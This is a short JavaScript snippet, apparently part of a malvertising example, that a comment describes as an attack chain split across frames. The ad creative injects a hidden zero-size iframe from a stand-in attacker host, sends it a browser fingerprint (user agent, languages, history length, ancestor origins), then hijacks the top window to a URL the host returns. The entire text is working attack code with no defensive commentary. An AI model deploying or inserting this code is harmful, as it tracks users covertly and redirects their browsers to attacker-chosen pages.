// The same chain split across frames: the creative posts its fingerprint to a helper frame
// on the attacker's host and navigates the top window when the frame answers.
(function (w) {
  var H = "https://cdn.adtrack-syncs.invalid";
  var f = w.document.createElement("iframe");
  f.src = H + "/sync.html";
  f.style.cssText = "width:0;height:0;border:0;position:absolute;left:-99px";
  w.document.body.appendChild(f);
  f.onload = function () {
    f.contentWindow.postMessage({
      k: "fp",
      ua: navigator.userAgent,
      l: navigator.languages && navigator.languages.join(","),
      m: navigator.maxTouchPoints,
      h: history.length,
      o: w.location.ancestorOrigins ? [].slice.call(w.location.ancestorOrigins) : []
    }, H);
  };
  w.addEventListener("message", function (e) {
    if (e.origin !== H || !e.data || e.data.k !== "go") return;
    var u = e.data.u;
    var a = w.document.createElement("a");
    a.href = u;
    a.target = "_top";
    w.document.body.appendChild(a);
    a.click();
    setTimeout(function () { w.top.location = u; }, 500);
  });
})(window);
